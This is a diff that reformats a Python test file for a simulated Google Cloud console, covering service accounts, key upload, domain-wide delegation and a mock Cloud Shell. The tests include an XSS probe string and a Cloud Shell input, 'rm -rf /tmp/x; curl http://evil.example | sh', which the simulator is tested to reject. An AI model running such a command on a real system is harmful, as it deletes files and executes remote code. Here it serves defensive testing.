@@ -74,7 +74,9 @@ async def robot(google: Google) -> str:
     """A service account that was made in the console, and its client ID."""
     await google.control("POST", "/accounts", {"email": MAILBOX})
     assert (await press(google, "/projectcreate", project=PROJECT)).status == 200
-    made = await press(google, f"/iam-admin/serviceaccounts/create?project={PROJECT}", id="certmail")
+    made = await press(
+        google, f"/iam-admin/serviceaccounts/create?project={PROJECT}", id="certmail"
+    )
     assert ROBOT in made.body
     found = re.search(r"OAuth 2 Client ID (\d{21})", words(made))
     assert found, words(made)
@@ -93,7 +95,9 @@ class TestAService:
         assert "Add key" in await see(google, KEYS)
         uploaded = await press(google, f"{KEYS}/upload", text=google.keys.certificate())
         assert "The public key is uploaded." in words(uploaded)
-        asked = f"{DELEGATION}?clientIdToAdd={client_id}&clientScopeToAdd={SEND}&overwriteClientId=true"
+        asked = (
+            f"{DELEGATION}?clientIdToAdd={client_id}&clientScopeToAdd={SEND}&overwriteClientId=true"
+        )
         page = await google.ask("GET", asked)
         assert f'name="client_id" value="{client_id}"' in page.body
         assert f">{SEND}</textarea>" in page.body
@@ -132,7 +136,9 @@ class TestAService:
 
 
 class TestDelegation:
-    async def test_replaces_a_clients_scopes_and_only_where_that_is_ticked(self, google: Google) -> None:
+    async def test_replaces_a_clients_scopes_and_only_where_that_is_ticked(
+        self, google: Google
+    ) -> None:
         client_id = await robot(google)
         await press(google, "/people/spreading", seconds="0")
         await press(google, f"{KEYS}/upload", text=google.keys.certificate())
@@ -142,7 +148,9 @@ class TestDelegation:
         assert again.status == 400
         assert "This client ID is in the table already." in words(again)
         await press(google, DELEGATION, client_id=client_id, scopes=METADATA, overwrite="1")
-        assert (await token(google)).body["error"] == "unauthorized_client", "what is not named is gone"
+        assert (await token(google)).body["error"] == "unauthorized_client", (
+            "what is not named is gone"
+        )
 
     @pytest.mark.parametrize(
         ("client_id", "scopes", "sentence"),
@@ -168,6 +176,7 @@ class TestDelegation:
 class TestKeys:
     async def test_are_refused_as_by_the_iam_api(self, google: Google) -> None:
         await robot(google)
+
         for text, sentence in (
             ("", "Choose a file, or paste the certificate."),
             ("hello", "Upload exactly one certificate in PEM form"),
@@ -176,6 +185,7 @@ class TestKeys:
             refused = await press(google, f"{KEYS}/upload", text=text)
             assert refused.status == 400
             assert sentence in words(refused)
+
         policy = f"/iam-admin/orgpolicies/iam-disableServiceAccountKeyUpload?project={PROJECT}"
         assert "Not enforced" in await see(google, policy)
         await press(google, f"/iam-admin/orgpolicies?project={PROJECT}", do="enforce")
@@ -214,7 +224,10 @@ async def test_links_lead_to_the_same_places_as_at_google(google: Google) -> Non
         (ACCOUNTS, f"Service accounts for project “{PROJECT}”"),
         ("/iam-admin/serviceaccounts", f"Service accounts for project “{PROJECT}”"),
         (f"/iam-admin/serviceaccounts/create?project={PROJECT}", "Service account ID"),
-        (f"/iam-admin/serviceaccounts/details/{client_id};edit=true/keys?project={PROJECT}", "Add key"),
+        (
+            f"/iam-admin/serviceaccounts/details/{client_id};edit=true/keys?project={PROJECT}",
+            "Add key",
+        ),
         (f"/iam-admin/serviceaccounts/details/{ROBOT}?project={PROJECT}", client_id),
         ("/ac/home", "API controls"),
         ("/ac/owl", "Manage domain-wide delegation"),
@@ -258,7 +271,9 @@ async def test_a_domain_can_restrict_gmail_to_clients_that_it_trusts(google: Goo
     path = "/ac/owl/list"
     await press(google, path, do="restrict", domain="acme.example")
     assert "admin_policy_enforced" in (await press(google, query, **consent)).body
-    trusting = await press(google, path, do="trust", domain="acme.example", client=client["client_id"])
+    trusting = await press(
+        google, path, do="trust", domain="acme.example", client=client["client_id"]
+    )
     assert "Change to limited" in words(trusting)
     allowed = await google.ask("POST", query, data=consent)
     assert allowed.status == 302
@@ -276,10 +291,16 @@ async def see_after(google: Google, email: str) -> str:
     return words(await press(google, "/people", email=email))
 
 
-async def test_what_people_type_is_escaped_and_every_page_names_itself_a_stand_in(google: Google) -> None:
+async def test_what_people_type_is_escaped_and_every_page_names_itself_a_stand_in(
+    google: Google,
+) -> None:
     await robot(google)
     evil = "<script>alert(1)</script>"
-    for path in (f"{API}{evil}", f"/projectcreate?project={evil}", f"{DELEGATION}?clientIdToAdd={evil}"):
+    for path in (
+        f"{API}{evil}",
+        f"/projectcreate?project={evil}",
+        f"{DELEGATION}?clientIdToAdd={evil}",
+    ):
         assert "<script>alert" not in (await google.ask("GET", path)).body
     pages = {
         route.resource.canonical
@@ -287,6 +308,7 @@ async def test_what_people_type_is_escaped_and_every_page_names_itself_a_stand_i
         if route.method == "GET" and route.resource and route.resource.canonical.startswith(PATHS)
     }
     assert len(pages) > 15
+
     for page in pages:
         path = page.format(account=ROBOT, policy="iam-disableServiceAccountKeyUpload", client="x")
         answer = await google.ask("GET", path)
@@ -301,12 +323,16 @@ class TestCloudShell:
         delegation = f"{google.url}{DELEGATION}?clientIdToAdd={CLIENT_ID}&clientScopeToAdd={SEND}"
         block = BLOCK % (google.keys.certificate().rstrip(), *delegation.split(CLIENT_ID))
         assert "Cloud Shell" in await see_following(google, f"/?cloudshell=true&project={PROJECT}")
+
         for _ in range(2):
             said = await press(google, "/cloudshell", commands=block)
             assert said.status == 200, words(said)
+
         found = re.search(r"Done\. Client ID: (\d{21})", words(said))
         assert found, words(said)
-        assert f'href="{delegation.replace(CLIENT_ID, found[1]).replace("&", "&amp;")}"' in said.body
+        assert (
+            f'href="{delegation.replace(CLIENT_ID, found[1]).replace("&", "&amp;")}"' in said.body
+        )
         assert "API enabled" in await see(google, API)
         keys = await google.ask("GET", f"/service_accounts/v1/metadata/x509/{ROBOT}")
         assert len(keys.body) == 1
@@ -319,9 +345,18 @@ class TestCloudShell:
         [
             ("rm -rf /tmp/x; curl http://evil.example | sh", ""),
             ("curl http://evil.example", "`curl` is not played here"),
-            ("gcloud compute instances create x", "`gcloud compute instances create` is not played here"),
-            ("gcloud services enable gmail.googleapis.com --project=nope-nope", "There is no project"),
-            ("gcloud iam service-accounts keys upload a.pem --iam-account=x@y.example", "no service account"),
+            (
+                "gcloud compute instances create x",
+                "`gcloud compute instances create` is not played here",
+            ),
+            (
+                "gcloud services enable gmail.googleapis.com --project=nope-nope",
+                "There is no project",
+            ),
+            (
+                "gcloud iam service-accounts keys upload a.pem --iam-account=x@y.example",
+                "no service account",
+            ),
             ("gcloud projects create A", "is no project ID"),
             ("echo 'half", "cannot be read"),
         ],
